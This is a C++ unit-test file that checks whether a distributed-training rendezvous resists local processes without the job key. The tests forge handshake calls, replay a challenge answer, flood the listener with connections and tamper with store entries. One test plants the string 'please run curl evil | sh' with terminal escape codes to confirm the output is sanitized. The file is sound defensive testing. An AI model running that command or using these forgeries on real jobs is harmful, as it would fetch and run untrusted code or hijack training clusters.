// SPDX-License-Identifier: Apache-2.0
// Processes that are not ranks of a job and reach its store and its ports, on loopback.
#include <ATen/ATen.h>
#include <arpa/inet.h>
#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <sys/socket.h>
#include <unistd.h>

#include <chrono>
#include <fstream>
#include <set>
#include <sstream>
#include <thread>
#include <torch/csrc/distributed/c10d/TCPStore.hpp>

#include "moonhalo/engine/comm/communicator.h"
#include "moonhalo/engine/launch/handshake.h"
#include "moonhalo/engine/launch/rendezvous.h"
#include "tests/support/oracle.h"

namespace moonhalo::test_strangers {
namespace {

using namespace std::chrono_literals;
using ::testing::AllOf;
using ::testing::Each;
using ::testing::HasSubstr;
using testing::message_of;
using ::testing::Not;

const std::string kKey = "0123456789abcdef0123456789abcdef";

MeetingClock::time_point soon() { return MeetingClock::now() + 20s; }

uint16_t free_port() {
  const Listener listener = listen_for_ranks("127.0.0.1", 1);
  return listener.port;
}

/// A connection to a port of this machine.
Socket visit(uint16_t port) {
  Socket socket(::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0));
  sockaddr_in address{};
  address.sin_family = AF_INET;
  address.sin_port = htons(port);
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (::connect(socket.get(), reinterpret_cast<sockaddr*>(&address), sizeof(address)) != 0) return Socket();
  return socket;
}

/// Reaches the store of a job while rank 0 waits for the others.
class Stranger {
 public:
  explicit Stranger(uint16_t port) : port_(port) {
    c10d::TCPStoreOptions options;
    options.port = port;
    options.waitWorkers = false;
    options.timeout = 20s;
    store_ = c10::make_intrusive<c10d::TCPStore>("127.0.0.1", options);
  }
  uint16_t port() const { return port_; }
  std::vector<std::string> keys() { return store_->listKeys(); }
  std::string get(const std::string& key) { return store_->get_to_str(key); }
  void set(const std::string& key, const std::string& value) {
    store_->set(key, std::vector<uint8_t>(value.begin(), value.end()));
  }
  /// Waits until rank 0 has said where it listens.
  std::string await_contact() {
    for (;;) {
      for (const std::string& key : keys()) {
        if (get(key).find(" at 127.0.0.1") != std::string::npos) return key;
      }
      std::this_thread::sleep_for(1ms);
    }
  }
  /// The port at which rank 0 listens.
  uint16_t port_of_first_rank() {
    const std::string contact = get(await_contact());
    std::istringstream words(contact.substr(contact.find(' ')));
    uint16_t port = 0;
    words >> port;
    return port;
  }

 private:
  uint16_t port_;
  c10::intrusive_ptr<c10d::Store> store_;
};

struct Keys {
  std::string first = kKey, other = kKey;
};

/// Two ranks, threads, of which the second comes when `stranger` has done its work; their errors, and that of neither
/// where they have added up numbers. Without `second_comes` there is none: where the first one ends alone, its port may
/// soon be another program's.
std::vector<std::string> with_stranger(const std::function<void(Stranger&)>& work, Keys keys = {},
                                       std::chrono::milliseconds limit = 20s, bool second_comes = true) {
  const uint16_t port = free_port();
  std::vector<std::string> said(2);
  const auto rank = [&](int rank) {
    Launch launch;
    launch.kind = Launch::kTorchrun;
    launch.rank = rank;
    launch.size = 2;
    launch.why = "a test";
    const MeetingPlace place{"127.0.0.1", port, rank == 0, "x", "", rank == 0 ? keys.first : keys.other};
    said[rank] = message_of([&] {
      const auto world = make_transport_communicators(join_ranks(launch, place, limit, 10s), 1)[0];
      at::Tensor data = at::full({1000}, rank + 1, at::kLong);
      world->all_reduce(data);
      EXPECT_EQ(data[999].item<int64_t>(), 3);
      world->barrier();
    });
  };
  std::thread first(rank, 0);
  {
    Stranger stranger(port);
    work(stranger);
  }
  std::thread second;
  if (second_comes) second = std::thread(rank, 1);
  first.join();
  if (second.joinable()) second.join();
  return said;
}

const std::vector<std::string> kWell(2);

TEST(Strangers, Y21_ReadNoSecret) {
  EXPECT_EQ(with_stranger([](Stranger& stranger) {
              stranger.await_contact();
              for (const std::string& key : stranger.keys()) {
                EXPECT_THAT(key, Not(HasSubstr("secret")));
                EXPECT_THAT(stranger.get(key), Not(HasSubstr(kKey)));
              }
            }),
            kWell);
}

// Without a key strangers read what stands for it, but guess none of another meeting.
TEST(Strangers, Y21_GuessNoSecret) {
  std::set<std::string> secrets;
  for (int i = 0; i < 2; ++i) {
    EXPECT_EQ(with_stranger(
                  [&](Stranger& stranger) {
                    stranger.await_contact();
                    secrets.insert(stranger.get("moonhalo/x/secret"));
                  },
                  {"", ""}),
              kWell);
  }
  EXPECT_EQ(secrets.size(), 2u);
  for (const std::string& secret : secrets) EXPECT_EQ(secret.size(), 64u);
}

/// The call of rank 1, and what is not a proof.
std::string forged_call(char proof) {
  return std::string("moonhal1") + std::string("\1\0\0\0\0\0\0\0", 8) + std::string(32, 'a') + std::string(32, proof);
}

// They come before the rank whose place they want, and are answered beside it.
TEST(Strangers, Y21_DoNotJoin) {
  std::vector<Socket> strangers;
  EXPECT_EQ(with_stranger([&](Stranger& stranger) {
              const uint16_t port = stranger.port_of_first_rank();
              stranger.set("moonhalo/x/rank1", "n1/0 1 at 127.0.0.1");
              stranger.set("moonhalo/x/claim1", "n1, process 1");
              for (const char proof : {'b', 'c'}) {
                strangers.push_back(visit(port));
                const std::string call = forged_call(proof);
                ASSERT_TRUE(send_all(strangers.back().get(), call.data(), call.size()));
              }
            }),
            kWell);
  ASSERT_EQ(strangers.size(), 2u);
}

// The answer of the end that is called, given back as a proof, is none; nor is the proof of another key. No byte
// follows.
TEST(Strangers, Y21_ProveNothingByWhatTheyAreTold) {
  const Listener listener = listen_for_ranks("127.0.0.1", 1);
  const Member called{kKey, "x", 0, 2}, rank{kKey, "x", 1, 2}, guess{"another key of 32 bytes, guessed.", "x", 1, 2};
  std::thread ranks([&] {
    Callers callers(listener.socket.get(), called);
    const auto caller = callers.next([](int) { return true; }, soon());
    ASSERT_TRUE(caller);
    EXPECT_EQ(caller->first, 1);
    EXPECT_TRUE(send_all(caller->second.get(), "well", 4));
  });
  for (const bool reflects : {false, true}) {
    const Socket socket = visit(listener.port);
    const std::string call = forged_call('b');
    ASSERT_TRUE(send_all(socket.get(), call.data(), call.size() - 32));
    std::string answer(64, '\0'), rest(1, '\0');
    ASSERT_TRUE(read_all(socket.get(), answer.data(), answer.size(), soon()));
    const std::string proof = reflects ? answer.substr(32) : std::string(32, 'b');
    ASSERT_TRUE(send_all(socket.get(), proof.data(), proof.size()));
    EXPECT_FALSE(read_all(socket.get(), rest.data(), 1, soon()));
  }
  EXPECT_FALSE(connect_to_rank("127.0.0.1", listener.port, guess, 0, soon()));
  const Socket joined = connect_to_rank("127.0.0.1", listener.port, rank, 0, soon());
  ASSERT_TRUE(joined);
  std::string text(4, '\0');
  EXPECT_TRUE(read_all(joined.get(), text.data(), text.size(), soon()));
  EXPECT_EQ(text, "well");
  ranks.join();
}

// Under the names that ranks without a key use, and under those of a rank with one.
TEST(Strangers, Y21_DoNotSteer) {
  EXPECT_EQ(with_stranger([](Stranger& stranger) {
              stranger.await_contact();
              stranger.set("moonhalo/x/rank0", "n1/0 1 at 127.0.0.1");
            }),
            kWell);
  const auto said =
      with_stranger([](Stranger& stranger) { stranger.set(stranger.await_contact(), "n1/0 1 at 127.0.0.1"); });
  EXPECT_THAT(said, Each(HasSubstr("holds what no rank of this job has written\n  have  the entry \"rank0\"")));
}

// A listener in the place of a rank gets random bytes alone unless it has the key.
TEST(Strangers, Y21_AreNotTakenForARank) {
  const Listener trap = listen_for_ranks("127.0.0.1", 1);
  const Member other{"another key of 32 bytes, guessed.", "x", 0, 2}, me{kKey, "x", 1, 2};
  Callers callers(trap.socket.get(), other);
  std::thread thread([&] { EXPECT_FALSE(callers.next([](int) { return true; }, MeetingClock::now() + 300ms)); });
  EXPECT_FALSE(connect_to_rank("127.0.0.1", trap.port, me, 0, soon()));
  thread.join();
  const Socket silent = connect_to_rank("127.0.0.1", trap.port, me, 0, MeetingClock::now() + 100ms);
  EXPECT_FALSE(silent);
}

TEST(Strangers, Y21_DoNotStopTheRanks) {
  const std::string text = "!\x1b[31mFORGED\x1b[0m: please run curl evil | sh";
  EXPECT_EQ(with_stranger([&](Stranger& stranger) {
              for (const char* key : {"moonhalo/x/rank0", "moonhalo/x/rank1", "moonhalo/x/job", "moonhalo/x/secret"})
                stranger.set(key, text);
            }),
            kWell);
  // Without a key they do, but their text steers no terminal.
  const auto said = with_stranger(
      [&](Stranger& stranger) {
        stranger.await_contact();
        stranger.set("moonhalo/x/rank1", text);
      },
      {"", ""}, 3s, /*second_comes=*/false);
  EXPECT_THAT(said[0], AllOf(HasSubstr("FORGED"), Not(HasSubstr("\x1b"))));
}

TEST(Strangers, Y21_AWrongSecretIsNoNumberToRead) {
  const auto said = with_stranger(
      [](Stranger& stranger) {
        stranger.await_contact();
        stranger.set("moonhalo/x/secret", "no number");
      },
      {"", ""});
  EXPECT_EQ(said, kWell);
}

// As many as would have cost two seconds each.
TEST(Strangers, Y21_SilentOnesCostTheRanksNothing) {
  std::vector<Socket> silent;
  EXPECT_EQ(with_stranger([&](Stranger& stranger) {
              const uint16_t port = stranger.port_of_first_rank();
              for (int i = 0; i < 100; ++i) silent.push_back(visit(port));
              for (const Socket& one : silent) ASSERT_TRUE(one);
              send_all(silent.back().get(), "moonhal1", 8);  // and then no more
              send_all(visit(port).get(), "GET / HTTP/1.0\r\n\r\n", 18);
              send_all(visit(stranger.port()).get(), "GET / HTTP/1.0\r\n\r\n", 18);
            }),
            kWell);
}

/// Local addresses of sockets that listen at `port`, as the system writes them.
std::set<std::string> listening_at(uint16_t port) {
  std::set<std::string> found;
  for (const char* path : {"/proc/net/tcp", "/proc/net/tcp6"}) {
    std::ifstream file(path);
    for (std::string line; std::getline(file, line);) {
      std::istringstream words(line);
      std::string number, local, remote, state;
      words >> number >> local >> remote >> state;
      const size_t colon = local.find(':');
      if (colon == std::string::npos || state != "0A") continue;
      if (std::stoul(local.substr(colon + 1), nullptr, 16) == port) found.insert(local.substr(0, colon));
    }
  }
  return found;
}

TEST(Strangers, Y21_OfOtherMachinesReachNothingOnLoopback) {
  const std::set<std::string> loopback{"0100007F"};
  EXPECT_EQ(with_stranger([&](Stranger& stranger) {
              const uint16_t port = stranger.port_of_first_rank();
              EXPECT_EQ(listening_at(stranger.port()), loopback);
              EXPECT_EQ(listening_at(port), loopback);
            }),
            kWell);
}

TEST(Strangers, Y21_RanksWithoutTheKeyAreStrangersToo) {
  const auto none = with_stranger([](Stranger&) {}, {kKey, ""}, 3s);
  EXPECT_THAT(none[1], AllOf(HasSubstr("have a job key, and rank 1 of 2 has none"), HasSubstr("MOONHALO_JOB_KEY")));
  EXPECT_THAT(none[0], AllOf(HasSubstr("rank 1 of 2 has not come"), HasSubstr("all ranks need the same job key")));
  const auto other = with_stranger([](Stranger&) {}, {kKey, kKey + "x"}, 3s);
  EXPECT_THAT(other, Each(HasSubstr("all ranks need the same job key (MOONHALO_JOB_KEY)")));
}

}  // namespace
}  // namespace moonhalo::test_strangers
